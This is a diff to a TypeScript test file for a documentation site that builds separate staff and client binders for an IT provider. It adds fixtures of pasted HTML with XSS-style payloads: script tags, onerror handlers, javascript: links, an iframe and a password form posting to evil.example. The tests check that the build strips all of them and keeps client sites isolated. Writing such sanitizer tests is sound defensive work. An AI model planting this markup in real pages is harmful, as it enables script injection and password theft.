@@ -1,4 +1,5 @@
 import { execFile } from 'node:child_process';
+import { existsSync } from 'node:fs';
 import { cp, readFile, rm, writeFile } from 'node:fs/promises';
 import path from 'node:path';
 import { promisify } from 'node:util';
@@ -23,6 +24,8 @@ import {
  */
 const exec = promisify(execFile);
 const CLIENTS = ['acme-dental', 'globex-law'];
+const ACME_PORTAL = 'binder.acme-dental.example';
+const STAFF_HOST = 'docs.northwind-it.example';
 let root: string;
 let content: ContentSet;
 const dists = new Map<string, string>();
@@ -31,8 +34,67 @@ beforeAll(async () => {
   root = await makeCheckout(
     {
       ...FIXTURE_MSP_WITH_HISTORY,
+      // Acme's site is published at its portal; Globex has none yet.
+      'content/clients/acme-dental/index.md': (
+        FIXTURE_MSP_WITH_HISTORY['content/clients/acme-dental/index.md'] ?? ''
+      ).replace('visit: second tuesday\n', `visit: second tuesday\nportal: { host: ${ACME_PORTAL} }\n`),
       'content/clients/acme-dental/binder/ups.md':
         '---\ntitle: Power\norder: 40\n---\n:::note\nThe UPS is on the server closet shelf.\n:::\n\n## How to get help\n\nCall the office.\n',
+      // An .mdx section: Starlight's components stay, HTML elements are sanitized as in Markdown.
+      'content/clients/globex-law/binder/wiring.mdx': [
+        '---',
+        'title: Wiring',
+        'order: 30',
+        '---',
+        "import { Aside } from '@astrojs/starlight/components';",
+        '',
+        '<Aside type="tip">Patch panel A feeds the <kbd>front desk</kbd>.</Aside>',
+        '',
+        '<img src="https://example.com/rack.png" alt="Rack" onerror="alert(1)" />',
+        '',
+        '<script>alert(2)</script>',
+        '',
+      ].join('\n'),
+      // HTML as people paste it into a binder, with what must never run (issue "Adopted by a real MSP").
+      'content/clients/acme-dental/binder/pasted.md': [
+        '---',
+        'title: Pasted from the old wiki',
+        'order: 90',
+        '---',
+        ':::caution',
+        'Kept from the old wiki.',
+        ':::',
+        '',
+        '## Ports',
+        '',
+        '| Port | Use |',
+        '|:-----|----:|',
+        '| 443 | <kbd>HTTPS</kbd> |',
+        '',
+        '<details>',
+        '<summary>Old firewall rules</summary>',
+        '',
+        'Kept for <abbr title="reference">ref</abbr>, line<br>break, x<sup>2</sup>.',
+        '',
+        '</details>',
+        '',
+        "<script>fetch('/clients/globex-law/binder/network/')</script>",
+        '',
+        'Photo: <img src="https://example.com/ups.png" onerror="fetch(\'/clients/globex-law/\')"> <a href="javascript:alert(1)">portal</a>',
+        '',
+        '<iframe src="https://evil.example/"></iframe>',
+        '',
+        '<form action="https://evil.example/steal"><input type="password" name="pw"></form>',
+        '',
+        '<style>body{display:none}</style>',
+        '',
+        'See <a href="./overview.md">the overview</a> and <a href="./firewall.md">the firewall</a>.',
+        '',
+        '```sh title="restore.sh"',
+        'restic restore latest',
+        '```',
+        '',
+      ].join('\n'),
     },
     { git: true },
   );
@@ -129,6 +191,15 @@ describe('links between content files', () => {
     expect(await read('staff', 'clients/acme-dental/print')).toContain('id="section-backups"');
   });
 
+  it('raw HTML links resolve like Markdown links, on the staff site and a client’s', async () => {
+    const staff = await read('staff', 'clients/acme-dental/binder/pasted');
+    expect(staff).toContain('<a href="/clients/acme-dental/binder/overview/">the overview</a>');
+    expect(staff).toContain('<a href="/clients/acme-dental/binder/firewall/">the firewall</a>');
+    const client = await read('acme-dental', 'clients/acme-dental/binder/pasted');
+    expect(client).toContain('<a href="/clients/acme-dental/binder/overview/">the overview</a>');
+    expect(client).not.toContain('/binder/firewall');
+  });
+
   it('on a client’s site, a link to an internal page is its text only', async () => {
     const overview = await read('acme-dental', 'clients/acme-dental/binder/overview');
     expect(overview).toContain('href="/clients/acme-dental/binder/backups/"');
@@ -164,6 +235,46 @@ describe('links between content files', () => {
   });
 });
 
+describe('content HTML is sanitized', () => {
+  it.each(['staff', 'acme-dental'])(
+    'the %s site drops scripts, handlers, frames, forms, styles and javascript: links',
+    async (variant) => {
+      const page = await read(variant, 'clients/acme-dental/binder/pasted');
+      const main = page.slice(page.indexOf('<main'), page.indexOf('</main>'));
+      expect(main).not.toMatch(/<(?:iframe|form|input|style)\b|\son[a-z]+=|javascript:|evil\.example/i);
+      expect(main).not.toContain('/clients/globex-law/');
+      // Scripts in the page are the site's own (Expressive Code's copy button, Starlight's), none from content.
+      expect(page).not.toContain("fetch('/clients/globex-law");
+    },
+  );
+
+  it('in .mdx, keeps Starlight’s components and drops what HTML elements must not carry', async () => {
+    for (const variant of ['staff', 'globex-law']) {
+      const page = await read(variant, 'clients/globex-law/binder/wiring');
+      const main = page.slice(page.indexOf('<main'), page.indexOf('</main>'));
+      expect(main).toMatch(/<aside aria-label="Tip" class="starlight-aside starlight-aside--tip"/);
+      expect(main).toContain('<kbd>front desk</kbd>');
+      expect(main).toMatch(/<img src="https:\/\/example\.com\/rack\.png" alt="Rack"\s*\/?>/);
+      expect(main).not.toMatch(/onerror|alert\(/);
+    }
+  });
+
+  it('keeps what Starlight makes and the HTML people use: asides, heading ids, tables, details, code', async () => {
+    const page = await read('staff', 'clients/acme-dental/binder/pasted');
+    expect(page).toMatch(/<aside aria-label="Caution" class="starlight-aside starlight-aside--caution"/);
+    expect(page).toMatch(/<svg[^>]*class="starlight-aside__icon"[^>]*><path d="/);
+    expect(page).toMatch(/<h2 id="ports"/);
+    expect(page).toMatch(/<div class="table-scroll" tabindex="0" role="region" aria-label="Ports"><table>/);
+    expect(page).toContain('<th style="text-align: left">Port</th>');
+    expect(page).toContain('<kbd>HTTPS</kbd>');
+    expect(page).toMatch(/<details>\s*<summary>Old firewall rules<\/summary>/);
+    expect(page).toContain('<abbr title="reference">ref</abbr>, line<br>break, x<sup>2</sup>');
+    // Expressive Code still gets the block's language and title.
+    expect(page).toMatch(/<figure class="frame[^"]*has-title/);
+    expect(page).toContain('restore.sh');
+  });
+});
+
 describe('client isolation', () => {
   it.each(CLIENTS)(
     '%s’s site holds nothing of another client and nothing internal, Pagefind included',
@@ -186,6 +297,45 @@ describe('client isolation', () => {
       expect(leaks).toEqual([]);
     },
   );
+
+  it.each(CLIENTS)(
+    '%s’s site names the staff site’s URL nowhere, and the leak check looks for it',
+    async (slug) => {
+      expect(forbiddenStrings(content, slug)).toContainEqual({
+        text: STAFF_HOST,
+        source: 'staff site',
+        token: true,
+      });
+      const probe = [{ text: STAFF_HOST, source: 'staff site', token: false }];
+      expect(await findLeaks(dists.get(slug) ?? '', probe)).toEqual([]);
+      expect(await findLeaks(dists.get('staff') ?? '', probe)).not.toEqual([]);
+    },
+  );
+
+  it('a client’s site with a portal uses it for canonical links, og:url, the sitemap and its calendar', async () => {
+    const page = await read('acme-dental', 'clients/acme-dental/binder/backups');
+    expect(page).toContain(
+      `<link rel="canonical" href="https://${ACME_PORTAL}/clients/acme-dental/binder/backups/"`,
+    );
+    expect(page).toContain(
+      `<meta property="og:url" content="https://${ACME_PORTAL}/clients/acme-dental/binder/backups/"`,
+    );
+    const sitemap = await readFile(path.join(dists.get('acme-dental') ?? '', 'sitemap-0.xml'), 'utf8');
+    expect(sitemap).toContain(`<loc>https://${ACME_PORTAL}/clients/acme-dental/binder/backups/</loc>`);
+    const feed = await readFile(path.join(dists.get('acme-dental') ?? '', 'calendar/visits.ics'), 'utf8');
+    expect(feed).toContain(`URL:https://${ACME_PORTAL}/`);
+  });
+
+  it('a client’s site without a portal has no canonical link, og:url or sitemap: it has no URL yet', async () => {
+    const dist = dists.get('globex-law') ?? '';
+    const page = await read('globex-law', 'clients/globex-law/binder/network');
+    expect(page).not.toMatch(/rel="canonical"|property="og:url"|rel="sitemap"/);
+    expect(existsSync(path.join(dist, 'sitemap-index.xml'))).toBe(false);
+    // The staff site keeps its own.
+    expect(await read('staff', 'clients/globex-law/binder/network')).toContain(
+      `<link rel="canonical" href="https://${STAFF_HOST}/clients/globex-law/binder/network/"`,
+    );
+  });
 
   it('a client’s site shows its For the client: comments and none of the staff-only ones', async () => {
     const page = await read('acme-dental', 'clients/acme-dental/checklists/2026-10-onsite');
